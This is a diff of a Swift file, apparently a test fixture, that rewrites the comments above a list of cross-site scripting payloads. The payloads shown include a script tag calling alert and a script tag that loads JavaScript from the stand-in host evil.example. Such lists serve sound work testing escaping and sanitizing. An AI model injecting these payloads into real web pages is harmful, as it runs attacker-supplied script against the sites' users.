@@ -1,7 +1,6 @@
-// Strings that have run a script in some page or other: tags, attributes, addresses, encodings,
-// broken markup, and markup that a careless filter puts together.
+// Cross-site scripting payloads: tags, attributes, URLs, encodings and malformed markup.
 
-/// Each calls `alert` where it works. None may do more than stand on the page as text.
+/// Each of them calls `alert` in a page that inserts it without escaping or sanitizing.
 let scriptPayloads: [String] = [
   #"<script>alert(1)</script>"#,
   #"<SCRIPT SRC=//evil.example/x.js></SCRIPT>"#,
